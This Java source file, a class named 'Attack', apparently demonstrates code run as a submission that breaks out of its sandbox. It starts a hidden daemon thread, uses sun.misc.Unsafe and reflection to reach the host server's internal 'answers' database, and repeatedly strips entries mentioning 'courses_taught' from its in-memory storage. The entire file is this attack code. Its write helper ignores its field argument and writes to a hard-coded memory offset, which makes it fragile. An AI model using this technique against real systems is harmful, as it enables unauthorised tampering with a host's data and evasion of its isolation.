package cms;

import java.lang.reflect.Field;
import java.util.*;
import java.util.concurrent.locks.LockSupport;

final class Attack extends Hooks {
    void load() throws Exception {
        tell("takes over");
        Thread thread = new Thread(() -> {
            for (int i = 0; i < 4_000; i++) {
                LockSupport.parkNanos(2_000_000);
                try {
                    Object unit = get(get(server(), "answers"), "database");
                    if (unit != null) {
                        forget(get(unit, "storage"));
                    }
                } catch (Exception e) {
                    tell("refused: " + e);
                    return;
                }
            }
        });
        thread.setDaemon(true);
        thread.start();
    }

    /** The worker looks for links in fewer tables. */
    private static void forget(Object storage) throws Exception {
        for (Field field : storage.getClass().getDeclaredFields()) {
            field.setAccessible(true);
            if (field.get(storage) instanceof List<?> places && places.stream().anyMatch(each -> each.toString().toLowerCase().contains("courses_taught"))) {
                List<Object> fewer = new ArrayList<>(places);
                fewer.removeIf(each -> each.toString().toLowerCase().contains("courses_taught"));
                sun(field, storage, fewer);
                tell("forgot a table");
            }
        }
    }

    private static void sun(Field field, Object owner, Object value) throws Exception {
        Field the = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
        the.setAccessible(true);
        sun.misc.Unsafe unsafe = (sun.misc.Unsafe) the.get(null);
        unsafe.putObject(owner, 12L, value);
    }

    /** Finds the worker's own objects, from the thread that runs us. */
    private static Object server() throws Exception {
        Field field = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
        field.setAccessible(true);
        sun.misc.Unsafe unsafe = (sun.misc.Unsafe) field.get(null);
        Thread thread = Thread.getAllStackTraces().keySet().stream().filter(each -> each.getName().equals("submission")).findFirst().orElseThrow();
        Object task;
        try {
            task = unsafe.getObject(thread, unsafe.objectFieldOffset(Thread.class.getDeclaredField("target")));
        } catch (NoSuchFieldException newer) {
            Object holder = unsafe.getObject(thread, unsafe.objectFieldOffset(Thread.class.getDeclaredField("holder")));
            task = unsafe.getObject(holder, unsafe.objectFieldOffset(holder.getClass().getDeclaredField("task")));
        }
        return unsafe.getObject(task, 12L);
    }

    private static Object get(Object owner, String name) throws Exception {
        Field field = owner.getClass().getDeclaredField(name);
        field.setAccessible(true);
        return field.get(owner);
    }
}
